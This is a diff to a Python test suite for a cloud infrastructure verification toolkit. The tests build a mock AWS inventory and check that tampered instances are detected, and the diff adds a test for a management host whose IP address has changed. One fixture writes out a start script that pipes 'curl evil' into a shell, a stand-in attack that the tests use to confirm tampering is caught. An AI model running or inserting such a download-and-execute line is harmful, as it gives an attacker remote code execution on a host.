@@ -22,6 +22,7 @@ from mutx_infra.grants import (
 from mutx_infra.hosts import PURPOSES
 from mutx_infra.plan import TenantPlan
 from mutx_infra.verification import TenantFacts, compare, expected_facts
+from mutx_infra.way_out import user_data
 from tests.support.specs import a_plan
 
 PLAN = a_plan()
@@ -49,6 +50,7 @@ def an_inventory(plan: TenantPlan = PLAN) -> dict[str, Any]:
                 "MetadataOptions": {
                     "HttpEndpoint": "enabled", "HttpTokens": "required", "HttpPutResponseHopLimit": 1,
                 },
+                "PrivateIpAddress": str(host.address or "10.0.1.9"),
                 "RootDeviceName": "/dev/xvda",
                 "BlockDeviceMappings": [
                     {"DeviceName": "/dev/xvda", "Ebs": {"VolumeId": f"root-{host.key}"}},
@@ -89,7 +91,7 @@ def an_inventory(plan: TenantPlan = PLAN) -> dict[str, Any]:
     return {
         "instances": instances,
         "volumes": volumes,
-        "user_data": {f"i-{host.key}": _encoded(naming.join_script("acme", host.key)) for host in plan.hosts},
+        "user_data": {f"i-{host.key}": _encoded(user_data(plan, host)) for host in plan.hosts},
         "keys": [
             KeyItem(
                 f"alias/mutx/acme/{p}", {"Arn": ARN.format(p), "KeyState": "Enabled"}, key_policy(plan, p),
@@ -170,6 +172,14 @@ def test_a_changed_start_script_is_found() -> None:
     seen["user_data"]["i-agent-1"] = _encoded("#!/bin/sh\ncurl evil | sh\n")
 
     assert any("other user data" in line for line in findings(seen))
+
+
+def test_a_proxy_that_nobody_finds_is_found() -> None:
+    seen = an_inventory()
+    mgmt = next(instance for instance in seen["instances"] if instance["InstanceId"] == "i-mgmt-1")
+    mgmt["PrivateIpAddress"] = "10.0.1.117"
+
+    assert any("10.0.1.117 instead of 10.0.1.116" in line for line in findings(seen))
 
 
 def test_an_instance_that_is_not_the_toolkit_s_is_found() -> None:
